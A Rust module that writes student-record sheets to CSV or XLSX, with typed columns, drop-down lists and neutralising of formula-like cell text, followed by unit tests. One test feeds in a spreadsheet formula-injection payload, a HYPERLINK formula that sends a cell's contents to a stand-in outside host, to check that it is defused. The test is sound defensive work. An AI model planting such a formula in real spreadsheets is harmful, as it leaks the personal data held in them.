//! Writing: rows of text into CSV (UTF-8 with a byte-order mark, which spreadsheet programs
//! need to show Chinese) or into an XLSX workbook kept in constant memory (rows spill to a
//! temporary file as they are written), with drop-down lists for coded columns.

use rust_xlsxwriter::{DataValidation, ExcelDateTime, Formula, Workbook, XlsxError};

use crate::{Format, SheetError};

/// The rows of one XLSX worksheet, header included.
pub const XLSX_MAX_ROWS: u32 = 1_048_576;

/// The hidden worksheet holding the values of the drop-down lists.
const CHOICES_SHEET: &str = "选项";

/// The values a coded column takes, offered as a drop-down list in an XLSX template.
#[derive(Debug, Clone)]
pub struct Choices {
    pub column: u16,
    /// What the cell means, shown when a clerk selects it (cut at 255 characters).
    pub note: String,
    /// The values offered; empty for a column that only carries a note.
    pub values: Vec<String>,
}

/// What a column holds, for an XLSX workbook to write it as a spreadsheet expects: codes as
/// text cells in a text-formatted column (so a number typed there keeps every digit), dates as
/// date cells, counts as number cells. CSV has no cell types: every kind is text there.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ColumnKind {
    /// Free text.
    #[default]
    Text,
    /// A code of digits (an ID number, a registry number, a school code): a text column, so
    /// that Excel never turns what a clerk types there into a number.
    Code,
    /// `YYYY-MM-DD`: a date cell.
    Date,
    /// A whole number: a number cell.
    Number,
}

/// A sheet being written. CSV bytes can be taken as they are produced
/// ([`take_ready`](Self::take_ready)); an XLSX workbook is only complete at
/// [`finish`](Self::finish).
pub enum SheetWriter {
    Csv(Box<csv::Writer<Vec<u8>>>),
    Xlsx {
        workbook: Box<Workbook>,
        rows: u32,
        /// What each column holds (text past the end).
        kinds: Vec<ColumnKind>,
    },
}

impl std::fmt::Debug for SheetWriter {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Csv(_) => f.write_str("SheetWriter::Csv"),
            Self::Xlsx { rows, .. } => write!(f, "SheetWriter::Xlsx({rows} rows)"),
        }
    }
}

fn xlsx(error: XlsxError) -> SheetError {
    SheetError::Xlsx(error.to_string())
}

impl SheetWriter {
    pub fn new(format: Format) -> Result<Self, SheetError> {
        Ok(match format {
            Format::Csv => {
                let mut out = Vec::with_capacity(64 * 1024);
                out.extend_from_slice(&[0xEF, 0xBB, 0xBF]);
                Self::Csv(Box::new(csv::Writer::from_writer(out)))
            }
            Format::Xlsx => {
                let mut workbook = Workbook::new();
                workbook
                    .add_worksheet_with_constant_memory()
                    .set_name("学生")
                    .map_err(xlsx)?;
                Self::Xlsx {
                    workbook: Box::new(workbook),
                    rows: 0,
                    kinds: Vec::new(),
                }
            }
        })
    }

    pub fn write_row<S: AsRef<str>>(&mut self, cells: &[S]) -> Result<(), SheetError> {
        match self {
            Self::Csv(writer) => writer
                .write_record(
                    cells
                        .iter()
                        .map(|c| crate::neutralised(c.as_ref()).into_owned()),
                )
                .map_err(|e| SheetError::Csv(e.to_string())),
            Self::Xlsx {
                workbook,
                rows,
                kinds,
            } => {
                if *rows >= XLSX_MAX_ROWS {
                    return Err(SheetError::TooManyRows);
                }
                let sheet = workbook.worksheet_from_index(0).map_err(xlsx)?;
                let date_format = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd");
                for (column, cell) in cells.iter().enumerate() {
                    let raw = cell.as_ref();
                    if raw.is_empty() {
                        continue;
                    }
                    let at = (*rows, column as u16);
                    // The heading row is text whatever its column holds.
                    let kind = if *rows == 0 {
                        ColumnKind::Text
                    } else {
                        kinds.get(column).copied().unwrap_or_default()
                    };
                    match (kind, typed(kind, raw)) {
                        (ColumnKind::Date, Some(Typed::Date(date))) => {
                            sheet
                                .write_datetime_with_format(at.0, at.1, &date, &date_format)
                                .map_err(xlsx)?;
                        }
                        (ColumnKind::Number, Some(Typed::Number(number))) => {
                            sheet.write_number(at.0, at.1, number).map_err(xlsx)?;
                        }
                        _ => {
                            sheet
                                .write_string(at.0, at.1, crate::neutralised(raw).as_ref())
                                .map_err(xlsx)?;
                        }
                    }
                }
                *rows += 1;
                Ok(())
            }
        }
    }

    /// What each column holds (XLSX: code columns formatted as text, dates and numbers written
    /// as such; CSV: nothing changes). Call before the first row.
    pub fn set_column_kinds(&mut self, column_kinds: &[ColumnKind]) -> Result<(), SheetError> {
        let Self::Xlsx {
            workbook, kinds, ..
        } = self
        else {
            return Ok(());
        };
        let sheet = workbook.worksheet_from_index(0).map_err(xlsx)?;
        // Excel's built-in Text format (49, "@").
        let text = rust_xlsxwriter::Format::new().set_num_format_index(49);
        for (column, kind) in column_kinds.iter().enumerate() {
            if *kind == ColumnKind::Code {
                sheet
                    .set_column_format(column as u16, &text)
                    .map_err(xlsx)?;
            }
        }
        *kinds = column_kinds.to_vec();
        Ok(())
    }

    /// Drop-down lists and notes for the columns of a template (XLSX only; a CSV file has
    /// no place for them). The values go to a hidden worksheet the lists refer to, so a list
    /// is not limited to Excel's 255 characters of inline values.
    pub fn add_choices(&mut self, choices: &[Choices]) -> Result<(), SheetError> {
        let Self::Xlsx { workbook, .. } = self else {
            return Ok(());
        };
        let lists = workbook.add_worksheet();
        lists.set_name(CHOICES_SHEET).map_err(xlsx)?;
        for (list_column, choice) in choices.iter().enumerate() {
            for (row, value) in choice.values.iter().enumerate() {
                lists
                    .write_string(row as u32, list_column as u16, value)
                    .map_err(xlsx)?;
            }
        }
        lists.set_hidden(true);
        let sheet = workbook.worksheet_from_index(0).map_err(xlsx)?;
        for (list_column, choice) in choices.iter().enumerate() {
            sheet.set_column_width(choice.column, 16).map_err(xlsx)?;
            let note: String = choice.note.chars().take(255).collect();
            let mut validation = if choice.values.is_empty() {
                DataValidation::new().allow_any_value()
            } else {
                let letter = crate::limits::column_letters(list_column);
                DataValidation::new()
                    .allow_list_formula(Formula::new(format!(
                        "={CHOICES_SHEET}!${letter}$1:${letter}${}",
                        choice.values.len()
                    )))
                    .set_error_message("请从下拉列表中选择 (choose a value from the list)")
                    .map_err(xlsx)?
            };
            validation = validation.set_input_message(note).map_err(xlsx)?;
            sheet
                .add_data_validation(
                    1,
                    choice.column,
                    XLSX_MAX_ROWS - 1,
                    choice.column,
                    &validation,
                )
                .map_err(xlsx)?;
        }
        Ok(())
    }

    /// The CSV bytes written so far (none for XLSX, which is only whole at the end).
    pub fn take_ready(&mut self) -> Result<Vec<u8>, SheetError> {
        match self {
            Self::Csv(writer) => {
                let full = std::mem::replace(writer.as_mut(), csv::Writer::from_writer(Vec::new()));
                full.into_inner()
                    .map_err(|e| SheetError::Csv(e.error().to_string()))
            }
            Self::Xlsx { .. } => Ok(Vec::new()),
        }
    }

    /// The rest of the file.
    pub fn finish(mut self) -> Result<Vec<u8>, SheetError> {
        match &mut self {
            Self::Csv(_) => self.take_ready(),
            Self::Xlsx { workbook, .. } => workbook.save_to_buffer().map_err(xlsx),
        }
    }
}

enum Typed {
    Date(ExcelDateTime),
    Number(f64),
}

/// A cell's text as the value its column's kind holds; `None` writes it as text (a value a
/// date or number column does not hold is written as the clerk gave it).
fn typed(kind: ColumnKind, text: &str) -> Option<Typed> {
    match kind {
        ColumnKind::Date => {
            let (y, rest) = text.split_once('-')?;
            let (m, d) = rest.split_once('-')?;
            let (y, m, d) = (y.parse().ok()?, m.parse().ok()?, d.parse().ok()?);
            ExcelDateTime::from_ymd(y, m, d).ok().map(Typed::Date)
        }
        ColumnKind::Number => text
            .parse::<i64>()
            .ok()
            .filter(|n| n.unsigned_abs() < 1 << 53)
            .map(|n| Typed::Number(n as f64)),
        ColumnKind::Text | ColumnKind::Code => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{read_csv, read_xlsx};

    fn sample() -> Vec<Vec<String>> {
        vec![
            vec!["姓名".into(), "出生日期".into(), "年级".into()],
            vec!["张𠀀三".into(), "2015-03-09".into(), "3".into()],
            vec!["李,\"四\"".into(), String::new(), "10".into()],
        ]
    }

    #[test]
    fn csv_and_xlsx_round_trip() {
        for format in [Format::Csv, Format::Xlsx] {
            let mut writer = SheetWriter::new(format).unwrap();
            for row in sample() {
                writer.write_row(&row).unwrap();
            }
            let mut bytes = writer.take_ready().unwrap();
            bytes.extend(writer.finish().unwrap());
            let mut rows = Vec::new();
            match format {
                Format::Csv => {
                    read_csv(&bytes[..], None, |row| {
                        rows.push(row.cells);
                        true
                    })
                    .unwrap();
                }
                Format::Xlsx => read_xlsx(std::io::Cursor::new(bytes), |row| {
                    rows.push(row.cells);
                    true
                })
                .unwrap(),
            }
            // An empty last cell is not stored in XLSX; the row reads shorter.
            let mut expected = sample();
            if format == Format::Xlsx {
                expected[2] = vec!["李,\"四\"".into(), String::new(), "10".into()];
            }
            assert_eq!(rows, expected, "{format:?}");
        }
    }

    #[test]
    fn a_template_carries_its_lists() {
        let mut writer = SheetWriter::new(Format::Xlsx).unwrap();
        writer.write_row(&["性别", "民族"]).unwrap();
        writer
            .add_choices(&[
                Choices {
                    column: 0,
                    note: "男 or 女".into(),
                    values: vec!["男".into(), "女".into()],
                },
                Choices {
                    column: 1,
                    note: "民族代码".into(),
                    values: (1..=56).map(|n| format!("{n:02}")).collect(),
                },
            ])
            .unwrap();
        let bytes = writer.finish().unwrap();
        let mut workbook: calamine::Xlsx<_> =
            calamine::Reader::new(std::io::Cursor::new(bytes)).unwrap();
        assert_eq!(calamine::Reader::sheet_names(&workbook), ["学生", "选项"]);
        let lists = calamine::Reader::worksheet_range(&mut workbook, "选项").unwrap();
        assert_eq!(lists.get_value((55, 1)).unwrap().to_string(), "56");
    }

    #[test]
    fn formula_like_text_is_written_neutralised_and_reads_back_as_it_was() {
        let values = [
            "=HYPERLINK(\"http://x.example/?\"&H2,\"点\")",
            "+8613800000000",
            "@SUM(1+1)",
            "－1",
            "王芳",
            "'ok",
        ];
        for format in [Format::Csv, Format::Xlsx] {
            let mut writer = SheetWriter::new(format).unwrap();
            writer.write_row(&values).unwrap();
            let bytes = writer.finish().unwrap();
            if format == Format::Csv {
                let text = String::from_utf8_lossy(&bytes);
                assert!(
                    text.contains("\"'=HYPERLINK") && text.contains("'+86"),
                    "{text}"
                );
            } else {
                let mut workbook: calamine::Xlsx<_> =
                    calamine::Reader::new(std::io::Cursor::new(bytes.clone())).unwrap();
                let sheet = calamine::Reader::worksheet_range(&mut workbook, "学生").unwrap();
                assert_eq!(sheet.get_value((0, 2)).unwrap().to_string(), "'@SUM(1+1)");
            }
            let mut read = Vec::new();
            let collect = |row: crate::Row| {
                read = row.cells;
                true
            };
            match format {
                Format::Csv => {
                    crate::read_csv(bytes.as_slice(), None, collect).unwrap();
                }
                Format::Xlsx => crate::read_xlsx(std::io::Cursor::new(bytes), collect).unwrap(),
            }
            assert_eq!(read, values, "{format:?}");
        }
    }

    #[test]
    fn a_long_number_cell_reads_as_the_spreadsheet_shows_it_not_as_digits() {
        let mut workbook = rust_xlsxwriter::Workbook::new();
        let sheet = workbook.add_worksheet();
        sheet.write_number(0, 0, 350102202003115246.0).unwrap();
        sheet.write_number(0, 1, 2135000101.0).unwrap();
        let bytes = workbook.save_to_buffer().unwrap();
        let mut cells = Vec::new();
        crate::read_xlsx(std::io::Cursor::new(bytes), |row| {
            cells = row.cells;
            true
        })
        .unwrap();
        assert!(cells[0].contains('E'), "{cells:?}");
        assert_ne!(cells[0], "350102202003115246");
        assert_eq!(cells[1], "2135000101");
    }

    #[test]
    fn xlsx_columns_hold_their_kinds_and_read_back_as_written() {
        let mut writer = SheetWriter::new(Format::Xlsx).unwrap();
        writer
            .set_column_kinds(&[
                ColumnKind::Code,
                ColumnKind::Date,
                ColumnKind::Number,
                ColumnKind::Text,
            ])
            .unwrap();
        writer
            .write_row(&["证件号码", "出生日期", "年级", "姓名"])
            .unwrap();
        writer
            .write_row(&["350102201801011234", "2018-01-01", "3", "=1+1"])
            .unwrap();
        // A value its column does not hold stays text, as given.
        writer.write_row(&["", "2018-02-30", "三", ""]).unwrap();
        let bytes = writer.finish().unwrap();

        // The code column is formatted as text (Excel's built-in format 49, "@"): what a clerk
        // types there stays as typed.
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.clone())).unwrap();
        let mut part = |name: &str| {
            let mut text = String::new();
            std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut text).unwrap();
            text
        };
        let sheet = part("xl/worksheets/sheet1.xml");
        let styles = part("xl/styles.xml");
        assert!(sheet.contains("<col min=\"1\" max=\"1\""), "{sheet}");
        assert!(styles.contains("numFmtId=\"49\""), "{styles}");

        use calamine::{Data, Reader};
        let mut workbook = calamine::Xlsx::new(std::io::Cursor::new(bytes.clone())).unwrap();
        let range = workbook.worksheet_range("学生").unwrap();
        assert!(matches!(range.get((1, 0)), Some(Data::String(s)) if s == "350102201801011234"));
        assert!(
            matches!(range.get((1, 1)), Some(Data::DateTime(_))),
            "{:?}",
            range.get((1, 1))
        );
        assert!(matches!(range.get((1, 2)), Some(Data::Float(n)) if *n == 3.0));
        assert!(matches!(range.get((2, 1)), Some(Data::String(s)) if s == "2018-02-30"));

        let mut rows = Vec::new();
        crate::read_xlsx(std::io::Cursor::new(bytes), |row| {
            rows.push(row.cells);
            true
        })
        .unwrap();
        assert_eq!(rows[1], ["350102201801011234", "2018-01-01", "3", "=1+1"]);
    }
}
